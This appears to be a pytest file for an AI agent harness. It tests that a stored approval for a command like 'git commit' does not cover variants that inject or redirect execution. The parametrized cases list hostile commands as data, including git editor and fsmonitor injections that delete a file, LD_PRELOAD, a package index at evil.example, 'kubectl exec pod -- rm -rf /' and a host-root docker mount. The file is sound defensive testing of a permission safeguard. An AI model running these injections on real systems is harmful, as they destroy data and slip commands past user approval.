"""A stored approval (`git commit` for the project) covers only plain forms of that command: never
global options, config, environment prefixes or options that change what runs — for git and for
every program whose approvals store a program-and-subcommand pattern."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from agentui.contracts import ConfirmationChoice
from agentui.tools import Approvals, Scope, ToolContext, default_registry
from agentui.tools.safety import Verdict, assess


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    w = tmp_path / "ws"
    w.mkdir()
    (w / "victim.txt").write_text("keep\n")
    return w


def covered(approved: str, later: str, ws: Path, tmp_path: Path) -> bool:
    """Approve `approved` for the project, then: does the record cover `later` without asking?"""
    approvals = Approvals(tmp_path / "allow.txt", ws)
    first = assess(approved, ws)
    assert first.verdict is Verdict.ASK and first.patterns and not first.once_only, (approved, first)
    approvals.record(Scope.PROJECT, "t", first.patterns)
    return approvals.covering_scope("t2", assess(later, ws)) is not None


# (the command approved for the project, a later command that must ask again)
CASES = [
    ("git commit -m x", "git -c core.editor='rm -f victim.txt; true' commit"),
    ("git commit -m x", "git -C . -c core.fsmonitor='rm -f victim.txt' commit -m x"),
    ("git commit -m x", "git --config-env=core.editor=EDITOR commit"),
    ("git commit -m x", "git --exec-path=/tmp/x commit -m x"),
    ("git commit -m x", "git -C /tmp commit -m x"),
    ("git commit -m x", "git -C sub commit -m x"),
    ("git commit -m x", "git --git-dir=/tmp/other/.git commit -m x"),
    ("git commit -m x", "git --work-tree=/ commit -m x"),
    ("git commit -m x", "git --namespace=x commit -m x"),
    ("git commit -m x", "git -p commit -m x"),
    ("git commit -m x", "GIT_DIR=/tmp/x git commit -m x"),
    ("git commit -m x", "GIT_EDITOR='rm -f victim.txt' git commit"),
    ("git commit -m x", "LD_PRELOAD=/tmp/x.so git commit -m x"),
    ("git commit -m x", "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.editor GIT_CONFIG_VALUE_0=x git commit"),
    ("git commit -m x", "env GIT_DIR=/tmp git commit -m x"),
    ("git commit -m x", "git commit --template=/etc/passwd"),
    ("git commit -m x", "git commit -m \"$(rm -f victim.txt)\""),
    ("git rebase main", "git rebase --exec 'rm -f victim.txt' main"),
    ("git rebase main", "git rebase -x 'rm -f victim.txt' main"),
    ("git fetch origin", "git fetch --upload-pack='rm -f victim.txt' origin"),
    ("git config user.name x", "git config core.fsmonitor 'rm -f victim.txt'"),
    ("git submodule update", "git submodule foreach 'rm -f victim.txt'"),
    ("git bisect start", "git bisect run rm -f victim.txt"),
    ("npm test", "npm --prefix /tmp test"),
    ("npm test", "npm test --script-shell=/tmp/evil"),
    ("npm test", "npm test --node-options='--require /tmp/x.js'"),
    ("npm test", "npm --userconfig /tmp/npmrc test"),
    ("npm run build", "npm run deploy"),
    ("npm install", "npm exec -- rm -f victim.txt"),
    ("pnpm test", "pnpm --dir /tmp test"),
    ("yarn test", "yarn --cwd /tmp test"),
    ("make all", "make -f /tmp/evil.mk all"),
    ("make all", "make CC='rm -f victim.txt' all"),
    ("make all", "make SHELL=/tmp/x all"),
    ("make all", "make --eval='x:=$(shell rm -f victim.txt)' all"),
    ("make all", "make -C /tmp all"),
    ("make all", "make all install"),
    ("make", "make deploy"),
    ("cargo build", "cargo --config 'build.rustc-wrapper=\"/tmp/x\"' build"),
    ("cargo build", "cargo +nightly build"),
    ("cargo build", "cargo build --manifest-path /tmp/Cargo.toml"),
    ("cargo build", "cargo -Z unstable-options build"),
    ("pip install -r requirements.txt", "pip install --index-url http://evil.example/simple x"),
    ("pip install -r requirements.txt", "pip install -r /tmp/req.txt"),
    ("pip install -r requirements.txt", "pip install -e /tmp/pkg"),
    ("go test ./...", "go test -exec /tmp/x ./..."),
    ("go test ./...", "go test -toolexec /tmp/x ./..."),
    ("go build", "go run /tmp/x.go"),
    ("uv sync", "uv run --with x python -c 'import os'"),
    ("python3 -c 'print(1)'", "python3 -c 'import os; os.remove(\"victim.txt\")'"),
    ("pytest -q", "pytest -q -c /tmp/pytest.ini"),
    ("pytest -q", "pytest --rootdir=/ -q"),
    ("docker pull alpine", "docker run -v /:/host alpine"),
    ("kubectl get pods", "kubectl exec pod -- rm -rf /"),
    ("sort -o out.txt victim.txt", "sort --compress-program=sh -o out.txt victim.txt"),
    ("ps e", "ps eww"),
    ("jq -n env", "jq -n '$ENV'"),
    ("let x=1", "let 'a[$(rm -f victim.txt)]=1'"),
]


@pytest.mark.parametrize(("approved", "later"), CASES)
def test_a_stored_pattern_does_not_cover_what_changes_what_runs(ws: Path, tmp_path: Path, approved: str,
                                                                later: str) -> None:
    if approved.startswith("let "):  # a builtin has no pattern to store at all
        assert assess(approved, ws).once_only
        return
    assert not covered(approved, later, ws, tmp_path), (approved, later, assess(later, ws).patterns)


@pytest.mark.parametrize(("approved", "later"), [
    ("git commit -m x", "git commit -m 'another message'"),
    ("git commit -m x", "git --no-pager commit -am 'fix: y'"),
    ("npm test", "npm test -- --watch"),
    ("npm run build", "npm run build --if-present"),
    ("make all", "make -j4 all"),
    ("make all", "make -s all"),
    ("cargo build", "cargo build --release"),
    ("pytest -q", "pytest -q tests/test_x.py"),
    ("git push origin main", "git push origin main"),
])
def test_a_stored_pattern_still_covers_plain_forms(ws: Path, tmp_path: Path, approved: str, later: str) -> None:
    assert covered(approved, later, ws, tmp_path), (approved, later, assess(later, ws).patterns)


@pytest.mark.parametrize(("command", "pattern"), [
    ("git commit -m x", "git commit"),
    ("git -c core.editor=vi commit", "git -c core.editor=vi commit"),
    ("git -C /tmp commit", "git -C /tmp commit"),
    ("npm run build", "npm run build"),
    ("make CC=gcc all", "make CC=gcc all"),
    ("make all", "make all"),
    ("cargo +nightly build", "cargo +nightly build"),
])
def test_the_prompt_shows_the_pattern_it_stores(ws: Path, command: str, pattern: str) -> None:
    assert assess(command, ws).patterns == (pattern,)


def _git(ws: Path, *args: str) -> None:
    subprocess.run(["git", *args], cwd=ws, check=True, capture_output=True,
                   env={"PATH": "/usr/bin:/bin", "HOME": str(ws.parent), "GIT_AUTHOR_NAME": "t",
                        "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@t"})


@pytest.mark.skipif(subprocess.run(["which", "git"], capture_output=True).returncode != 0, reason="git not installed")
@pytest.mark.parametrize("command", [
    "git -c core.editor='rm -f victim.txt; true' commit --allow-empty",
    "git -C . -c core.fsmonitor='rm -f victim.txt; true' commit --allow-empty -m x",
    "GIT_EDITOR='rm -f victim.txt; true' git commit --allow-empty",
])
async def test_an_approved_git_commit_does_not_run_an_injected_command_unattended(ws: Path, tmp_path: Path,
                                                                                  command: str) -> None:
    """The issue's case end to end: `git commit` approved for the project, then no one to ask."""
    _git(ws, "init", "-q")
    _git(ws, "add", "victim.txt")
    _git(ws, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "init")
    approvals = Approvals(tmp_path / "allow.txt", ws)
    approvals.record(Scope.PROJECT, "t0", ("git commit",))
    asked: list[object] = []

    async def nobody(req):  # noqa: ANN001, ANN202 - unattended: every question is a no
        asked.append(req)
        return ConfirmationChoice.DENY

    ctx = ToolContext(workspace=ws, task_id="t", confirm=nobody, approvals=approvals, timeout_s=20)
    rec = await default_registry("linux").call("shell", {"command": command}, ctx)
    assert not rec.ok and asked and (ws / "victim.txt").exists(), (command, rec.error)


@pytest.mark.parametrize(("approved", "later"), [
    ("pytest -q", "pytest -q -p evil_plugin"), ("pytest -q", "pytest --import-mode=append -q"),
    ("pytest -q", "pytest -q -o addopts='-p x'"), ("pytest -q", "pytest --confcutdir=. -q"),
    ("ruff check .", "ruff check --config other.toml ."), ("eslint .", "eslint --rulesdir rules ."),
    ("mvn test", "mvn test -DargLine=-javaagent:x.jar"), ("mvn test", "mvn -s settings.xml test"),
])
def test_options_of_other_programs_are_not_covered_either(ws: Path, tmp_path: Path, approved: str, later: str) -> None:
    assert not covered(approved, later, ws, tmp_path), (approved, later, assess(later, ws).patterns)


def test_a_word_known_only_at_run_time_is_never_stored(ws: Path, tmp_path: Path) -> None:
    """`t=all; make $t` approved for the project must not cover `t=nuke; make $t`: same text, another command."""
    a = assess("t=all; make $t", ws)
    assert a.verdict is Verdict.ASK and a.once_only, a
    approvals = Approvals(tmp_path / "allow.txt", ws)
    approvals.record(Scope.PROJECT, "t", ("make $t",))  # even if such a line were in the file
    assert approvals.covering_scope("t2", assess("t=nuke; make $t", ws)) is None
